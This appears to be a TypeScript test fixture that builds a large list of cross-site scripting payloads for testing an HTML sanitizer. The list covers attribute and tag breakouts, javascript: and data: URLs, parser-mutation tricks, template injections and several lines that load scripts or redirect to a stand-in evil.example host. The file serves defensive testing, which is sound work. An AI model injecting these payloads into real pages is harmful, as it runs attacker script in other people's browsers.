import { readFileSync } from 'node:fs';

const FILE = new URL('../../src/modules/content/hostile-html.txt', import.meta.url);

/** Lines that run something; the others are for the specs of those who leave it out. */
const RUNS = /alert|javascript:|x\.js/;

/** Texts that end what they stand in: attributes, elements, JSON, comments, XML. */
const BREAKOUTS = [
  `" onmouseover=alert(1) x="`,
  `' onmouseover='alert(1)`,
  `"><img src=x onerror=alert(1)>`,
  `'><svg onload=alert(1)>`,
  `" autofocus tabindex=1 onfocus="alert(1)`,
  '` onmouseover=alert(1) `',
  `</h1></title></style></textarea></noscript><script>alert(1)</script>`,
  `</script><script>alert(1)</script>`,
  `</ScRiPt ><img src=x onerror=alert(1)>`,
  `<!--<script>`,
  `"}]}</script><svg onload=alert(1)>`,
  `\\"}</script\t><script>alert(1)//`,
  `\u2028</script\u2029><script>alert(1)</script>`,
  `--><img src=x onerror=alert(1)><!--`,
  `]]><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script><![CDATA[`,
  `</title></item></channel><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`,
];

/** Schemes that run something, dressed up as browsers forgive it. */
const ADDRESSES = [
  `javascript:alert(1)`,
  ` \u0001JaVaScRiPt:alert(1)`,
  `java\tscr\nipt:alert(1)`,
  `javascript://x.example/%0aalert(1)`,
  `data:text/html,<script>parent.alert(1)</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:alert(1)`,
  `//evil.example/x.js`,
  `https://evil.example/x" onerror="alert(1)`,
  `https://x.example/' onload='alert(1)`,
  `<a href="java&Tab;script:alert(1)">x</a>`,
  `<a href="&#14; javascript&colon;alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<img srcset="javascript:alert(1) 1x, x 2x" src=x>`,
];

/** Values that look like the next attribute to who takes a tag for a text. */
const SEAMS = ['alt', 'loading', 'sizes', 'src'].map(
  (name) => `<img src=x alt=" ${name}=" title="x onerror=alert(1) ">`,
);
const OTHER_SEAMS = [
  `<a title=" href=" class="x onmouseover=alert(1) " href=https://x.example>x</a>`,
  `<video title=" poster=" class="x onerror=alert(1) " src=x></video>`,
  `<p title=" role=" class="main onclick=alert(1) " role=main>x</p>`,
  // Quotes are letters of names.
  `<img src=x data-a"b=" sizes=" alt="y onerror=alert(1) x ">`,
  `<p data-a'b=" role=" title="main onclick=alert(1) " role="main">x</p>`,
  `<p data-a"style="position:fixed;top:0;left:0;width:100%;height:100%">alert(1)</p>`,
  `<iframe data-a"src="https://evil.example/x.js" data-b"sandbox="allow-scripts allow-top-navigation" src="https://www.youtube.com/embed/x"></iframe>`,
  `<iframe title=" width=" class="1 onload=alert(1) " src="https://www.youtube.com/embed/x"></iframe>`,
];

/** Elements that lead away, load, send or take names. */
const ELEMENTS = [
  `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
  `<base href="javascript:/x/"><a href="..//alert(1)">x</a>`,
  `<form action=javascript:alert(1)><button>x</button></form>`,
  `<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>`,
  `<form name=querySelectorAll><input name=attributes></form><img name=createElement>`,
  `<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;" sandbox="allow-scripts"></iframe>`,
  `<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src=javascript:alert(1)></iframe>`,
  `<p style="animation-name:x" onanimationstart=alert(1)>x</p>`,
  `<style>@keyframes x{}p{animation:x}</style><p onanimationend=alert(1)>x`,
  `}</style><link rel=stylesheet href=//evil.example/x.css>`,
];

/** Texts that one parser reads otherwise than the next. */
const MUTATIONS = [
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
  `<svg><annotation-xml><foreignObject><style><!--</style><p id="--><img src=x onerror=alert(1)>">`,
  `<select><iframe></select><img src=x onerror=alert(1)></iframe>`,
  `<p id="</p><img src=x onerror=alert(1)>"><table><p title="</table><script>alert(1)</script>">`,
  `<math><mi><mglyph xlink:href="javascript:alert(1)"><a xlink:href="javascript:alert(1)">x`,
];

/** Templates, shortcodes and other spellings of the same. */
const SPELLINGS = [
  `{{constructor.constructor('alert(1)')()}}\${alert(1)}<%= alert(1) %>#{alert(1)}`,
  `[cms-image 1 caption="<img src=x onerror=alert(1)>" link_url="javascript:alert(1)"]`,
  `[cms-image 1 alt='" onerror=alert(1) x="' title='"><script>alert(1)</script>']`,
  `[youtube https://www.youtube.com/watch?v=x"onload="alert(1)]`,
  `<p title="[cms-image 1 caption='\\"><img src=x onerror=alert(1)>']">x</p>`,
  `&amp;lt;img src=x onerror=alert(1)&amp;gt;&lt;img src=x onerror=alert(1)&gt;`,
  `\\u003cimg src=x onerror=alert(1)\\u003e`,
  `\u001b(J"><img src=x onerror=alert(1)>\u001b$B`,
  `\ufeff<scr\u00adipt>alert(1)</scr\u00adipt>`,
  `$&$\`$'<img src=x onerror=alert(1)>$1`,
];

/** One text after the other, each of which runs a script where a page does not know what it shows. */
export const XSS_PAYLOADS: readonly string[] = [
  ...readFileSync(FILE, 'utf8')
    .split('\n')
    .filter((line) => RUNS.test(line))
    .map((line) => line.replaceAll('␀', '\0').replaceAll('⏎', '\n')),
  ...BREAKOUTS,
  ...ADDRESSES,
  ...SEAMS,
  ...OTHER_SEAMS,
  ...ELEMENTS,
  ...MUTATIONS,
  ...SPELLINGS,
];

/**
 * The payload as the address that a field is for: behind that of a site, but
 * for one with a scheme of its own.
 */
export function asAddress(payload: string, site: string): string {
  return /^[\s\p{Cc}]*[a-z\s]+:/iu.test(payload) ? payload : site + payload;
}
